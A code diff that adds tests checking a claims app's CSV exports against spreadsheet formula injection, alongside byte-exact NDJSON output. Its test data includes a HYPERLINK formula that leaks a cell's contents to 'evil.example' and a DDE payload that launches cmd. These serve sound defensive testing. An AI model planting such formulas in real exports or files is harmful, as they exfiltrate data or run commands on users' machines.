@@ -476,3 +476,57 @@ describe('npm run export (the CLI)', () => {
     expect(() => readFileSync(out)).toThrow();
   });
 });
+
+describe('formula injection (OWASP CSV Injection)', () => {
+  const TEXT = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the source")';
+  const QUOTE = '+1 (555) 010-9999 is the number to call';
+  const CONTEXT = '-2+3 said the minister, on television';
+  const NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+  const REASON = '=1+1 duplicates another claim';
+  let claimId: string;
+
+  beforeAll(async () => {
+    const { createActor } = await app.ok<{ createActor: { id: string } }>(
+      `mutation($name: String!) { createActor(input: { name: $name, kind: ORGANISATION }) { id } }`,
+      { name: NAME },
+      n.tokens.checker,
+    );
+    const { createClaim } = await app.ok<{ createClaim: { id: string; version: number } }>(
+      `mutation($i: CreateClaimInput!) { createClaim(input: $i) { id version } }`,
+      { i: { text: TEXT, quote: QUOTE, context: CONTEXT, claimantId: createActor.id } },
+      n.tokens.checker,
+    );
+    claimId = createClaim.id;
+    await app.ok(
+      `mutation($id: ID!, $v: Int!, $r: String!) { archiveClaim(id: $id, expectedVersion: $v, reason: $r) { id } }`,
+      { id: claimId, v: createClaim.version, r: REASON },
+      n.tokens.editor,
+    );
+  });
+
+  test('the CSV exports, meant for spreadsheets, start such cells with a single quote; other cells are untouched', async () => {
+    const [row] = csvRows(await ok(`/export/claims.csv?claim=${claimId}`));
+    expect([row!.text, row!.quote, row!.context, row!.claimant_name]).toEqual([`'${TEXT}`, `'${QUOTE}`, `'${CONTEXT}`, `'${NAME}`]);
+    expect([row!.id, row!.review_status, row!.language]).toEqual([claimId, 'ARCHIVED', 'en']);
+    // A cell that merely contains = or + somewhere is left as it is.
+    const [trickyRow] = csvRows(await ok(`/export/claims.csv?claim=${tricky.id}`));
+    expect(trickyRow!.text).toBe(TRICKY_TEXT);
+
+    const events = csvRows(await ok(`/export/history.csv?claim=${claimId}`));
+    expect(events.map((e) => [e.action, e.note])).toEqual([
+      ['createClaim', ''],
+      ['archiveClaim', `'${REASON}`],
+    ]);
+    // JSON cells begin with "{" and are written as they are.
+    expect(JSON.parse(events[0]!.state!)).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
+  });
+
+  test('the NDJSON exports keep the text byte-exact, and the history still verifies', async () => {
+    const [claim] = lines(await ok(`/export/claims.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as { text: string; quote: string; context: string; claimant: { name: string } });
+    expect([claim!.text, claim!.quote, claim!.context, claim!.claimant.name]).toEqual([TEXT, QUOTE, CONTEXT, NAME]);
+    const events = lines(await ok(`/export/history.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as ExportedEvent);
+    expect(events[0]!.state).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
+    expect(events[1]!.note).toBe(REASON);
+    for (const e of events) expect(specHash(e)).toBe(e.hash);
+  });
+});
